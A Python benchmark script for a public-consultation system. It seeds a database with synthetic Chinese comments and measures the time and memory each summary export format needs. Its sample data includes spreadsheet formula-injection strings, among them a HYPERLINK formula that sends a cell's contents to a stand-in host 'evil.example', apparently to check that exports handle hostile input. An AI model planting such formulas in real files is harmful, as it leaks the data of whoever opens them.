"""Prints how long each format of the consultation summary takes and how much memory it needs; never asserts.

Run from the repository root: .venv/bin/python -m bench.summary_exports [--scale 0.1] [--keep DIR]
A scratch SQLite database gets a closed, answered consultation with 100,000 valid comments (bulk inserted,
a tenth of them in clusters) and a second one with 1,000,000 for CSV. Each case then runs the real export
service (summary_exports: reserve a code, build, hash, register) in its own subprocess, started by a small
wrapper whose only child it is, so `getrusage(RUSAGE_CHILDREN).ru_maxrss` is that case's peak resident memory.
Targets: CSV of 1,000,000 <= 30 s and <= 100 MiB resident; xlsx of 100,000 <= 20 s; the PDF of 100,000 is
known to take minutes (the download page says so).
"""

from __future__ import annotations

import argparse
import json
import os
import platform
import resource
import subprocess
import sys
import tempfile
import threading
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

CASES = (("docx", 100_000), ("pdf", 100_000), ("xlsx", 100_000), ("json", 100_000), ("csv", 100_000),
         ("csv", 1_000_000))  # fmt: skip
BATCH = 20_000
SURNAMES = "张王李赵刘陈杨黄周吴徐孙马朱胡郭何林高罗"
GIVEN = ["晓明", "红", "建国", "丽", "志强", "秀英", "伟", "桂兰", "海涛", "静", "=SUM(A1:A9)", "子涵"]
TEXTS = [
    "第{n}条关于充电场所的规定不够具体，建议写明责任部门和完成时限。",
    "老年人不会用手机，建议保留线下窗口，我们小区有{n}位独居老人，我的电话13904135566。",
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "支持这个方案，尤其是集中充电部分，考虑得很周到。希望{n}个工作日内答复。",
    "物业人手不够，每日巡查做不到，建议改为每周巡查，物业费不能因此上涨。",
]
ADOPTIONS = ["adopted", "partly_adopted", "not_adopted", "out_of_scope"]


def _app(database: Path) -> Any:
    from app import create_app

    return create_app(
        {
            "TESTING": False,
            "SECRET_KEY": "bench",
            "SQLALCHEMY_DATABASE_URI": f"sqlite:///{database}",
            "UPLOAD_FOLDER": str(database.parent / "uploads"),
            "LOG_FORMAT": "text",
        }
    )


def setup(database: Path, counts: list[int]) -> list[int]:
    """Schema, a department, and one closed, answered consultation per count, comments inserted in bulk."""
    from sqlalchemy import insert

    from consultation.handling.models import ConsultationFeedback
    from consultation.models import Comment, Consultation, ConsultationStatus, DraftUnitRow, SecrecyResult
    from core.extensions import db
    from core.models import CalendarDay, Department

    app = _app(database)
    ids = []
    with app.app_context():
        db.create_all()
        now = datetime.now(UTC)
        for year in range(now.year - 1, now.year + 2):
            db.session.merge(CalendarDay(day=datetime(year, 1, 1).date(), is_workday=False, note="元旦"))
        department = Department(code="bench", name="区住建局", office_phone="024-56620078")
        db.session.add(department)
        for count in counts:
            consultation = Consultation(
                title=f"《东洲区住宅小区电动自行车充电管理办法（征求意见稿）》（{count}条意见）",
                doc_type="major_decision", department=department, contact_phone="024-56620078",
                explanation="起草说明。", channels=["online", "email"], contact_email="a@example.cn",
                start_at=now - timedelta(days=60), end_at=now - timedelta(days=5),
                status=ConsultationStatus.FEEDBACK_PUBLISHED, secrecy_result=SecrecyResult.CLEARED,
                units=[DraftUnitRow(key=f"a{n}", kind="article", number=f"第{n}条", text="条文。", position=n)
                       for n in range(1, 21)],
            )  # fmt: skip
            db.session.add(consultation)
            db.session.flush()
            db.session.add(ConsultationFeedback(consultation_id=consultation.id, main_changes="无", published_at=now))
            for start in range(0, count, BATCH):
                rows = [_comment(consultation.id, n, now) for n in range(start, min(count, start + BATCH))]
                db.session.execute(insert(Comment), rows)
            db.session.commit()
            ids.append(consultation.id)
    return ids


def _name(n: int) -> str:
    """A person's name, an enterprise every ninth comment, no name every eighth."""
    if n % 8 == 7:
        return ""
    if n % 9 == 0:
        return f"东洲{GIVEN[n % len(GIVEN)]}物业服务有限公司"
    return SURNAMES[n % len(SURNAMES)] + GIVEN[(n // len(SURNAMES)) % len(GIVEN)]


def _comment(consultation_id: int, n: int, now: datetime) -> dict[str, Any]:
    cluster = 1_000_000 * consultation_id + n % 50 if n % 10 == 0 else None  # campaigns: clusters of many
    return {
        "consultation_id": consultation_id,
        "unit_key": f"a{n % 20 + 1}" if n % 7 else None,
        "channel": "online" if n % 5 else "email",
        "received_at": now - timedelta(days=30, seconds=n),
        "author_name": _name(n),
        "respondent_type": "enterprise" if n % 9 == 0 else "individual",
        "phone": f"139{n:08d}" if n % 3 == 0 else "",
        "email": f"r{n}@example.cn" if n % 4 == 0 else "",
        "content": TEXTS[n % len(TEXTS)].format(n=n % 1000),
        "publish_name": n % 6 == 0,
        "receipt_number": f"B{consultation_id:02d}{n:09d}",
        "moderation_status": "approved",
        "validity": "valid",
        "cluster_id": cluster,
        "adoption": ADOPTIONS[n % 4],
        "answer_reason": "" if n % 4 == 0 else "经研究，与上位法规定不一致。",
        "answer_change": "第三条作相应修改。" if n % 4 == 0 else "",
        "screening": {},
        "flags": "",
        "fingerprint": "",
        "created_at": now,
    }


def current_rss_mib() -> float:
    """Resident memory now (not the peak): pages of /proc/self/statm."""
    with open("/proc/self/statm") as statm:
        return int(statm.read().split()[1]) * os.sysconf("SC_PAGE_SIZE") / 2**20


class RssSampler(threading.Thread):
    """The highest resident memory seen while the export runs, sampled every 20 ms.

    ru_maxrss also counts what the application's start-up held for a moment (it once did: the Argon2 timing hash
    of core.passwords took 64 MiB at import, now at first login), so the export's own need is read here as well.
    """

    def __init__(self) -> None:
        super().__init__(daemon=True)
        self.highest = current_rss_mib()
        self.running = True

    def run(self) -> None:
        while self.running:
            self.highest = max(self.highest, current_rss_mib())
            time.sleep(0.02)

    def stop(self) -> float:
        self.running = False
        self.join()
        return max(self.highest, current_rss_mib())


def run_case(database: Path, consultation_id: int, fmt: str) -> dict[str, Any]:
    """One export through the service, as a download does it; the output drained to /dev/null."""
    from consultation.models import Consultation
    from consultation.summary import exports as summary_exports
    from core.extensions import db
    from core.verification import DocumentFormat, DocumentVersion

    app = _app(database)
    with app.app_context(), app.test_request_context(base_url="https://www.dongzhou.gov.cn/"):
        consultation = db.session.get(Consultation, consultation_id)
        before = current_rss_mib()
        sampler = RssSampler()
        sampler.start()
        started = time.perf_counter()
        with open(os.devnull, "wb") as sink:
            document = summary_exports.export_to_file(
                consultation, DocumentFormat(fmt), DocumentVersion.INTERNAL, sink, bom=True
            )
        seconds = time.perf_counter() - started
        during = sampler.stop()
        db.session.commit()
        return {"seconds": seconds, "bytes": document.size, "rss_before_mib": before, "rss_during_mib": during}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--scale", type=float, default=1.0, help="scale every row count (quick runs)")
    parser.add_argument("--keep", type=Path, help="use (and keep) this directory for the database")
    parser.add_argument("--formats", nargs="+", default=[fmt for fmt, _rows in CASES], help="only these formats")
    parser.add_argument("--case", nargs=3, metavar=("DB", "ID", "FORMAT"), help=argparse.SUPPRESS)
    parser.add_argument("--measure", nargs=3, metavar=("DB", "ID", "FORMAT"), help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.case:  # the case itself
        print(json.dumps(run_case(Path(args.case[0]), int(args.case[1]), args.case[2])))
        return
    if args.measure:  # the wrapper: its one child is the case, so RUSAGE_CHILDREN is the case's peak
        command = [sys.executable, "-m", "bench.summary_exports", "--case", *args.measure]
        result = json.loads(subprocess.run(command, check=True, capture_output=True, text=True).stdout)
        usage = resource.getrusage(resource.RUSAGE_CHILDREN)
        result["peak_rss_mib"] = usage.ru_maxrss / 1024
        result["cpu_s"] = usage.ru_utime + usage.ru_stime  # start-up included; steadier than wall time on a busy host
        print(json.dumps(result))
        return

    directory = args.keep or Path(tempfile.mkdtemp(prefix="minyi-bench-"))
    directory.mkdir(parents=True, exist_ok=True)
    database = directory / "summary.sqlite"
    counts = sorted({max(1, int(rows * args.scale)) for _fmt, rows in CASES})
    print(f"Python {platform.python_version()} on {platform.machine()}, {os.cpu_count()} CPUs; SQLite; "
          "one process per case")  # fmt: skip
    if not database.exists():
        started = time.perf_counter()
        ids = dict(zip(counts, setup(database, counts), strict=True))
        print(
            f"setup: {', '.join(f'{n:,}' for n in counts)} comments inserted in {time.perf_counter() - started:.0f} s"
        )
    else:
        ids = dict(zip(counts, range(1, len(counts) + 1), strict=True))
    columns = ("format", "comments", "time", "CPU", "peak RSS", "RSS before", "RSS during", "output")
    print("{:<6} {:>10} {:>8} {:>8} {:>9} {:>11} {:>11} {:>9}".format(*columns))
    for fmt, rows in CASES:
        if fmt not in args.formats:
            continue
        count = max(1, int(rows * args.scale))
        command = [sys.executable, "-m", "bench.summary_exports", "--measure", str(database), str(ids[count]), fmt]
        result = json.loads(subprocess.run(command, check=True, capture_output=True, text=True).stdout)
        print(
            f"{fmt:<6} {count:>10,} {result['seconds']:>6.1f} s {result['cpu_s']:>6.1f} s "
            f"{result['peak_rss_mib']:>5.0f} MiB "
            f"{result['rss_before_mib']:>7.0f} MiB {result['rss_during_mib']:>7.0f} MiB "
            f"{result['bytes'] / 1e6:>6.1f} MB"
        )
    print("time: the export; CPU: the case's process, start-up included; peak RSS: its ru_maxrss (start-up included);")
    print("RSS before / during: resident memory before the export and the highest while it ran")
    print("Targets: csv 1,000,000 <= 30 s and <= 100 MiB; xlsx 100,000 <= 20 s. Internal version (names in full).")


if __name__ == "__main__":
    main()
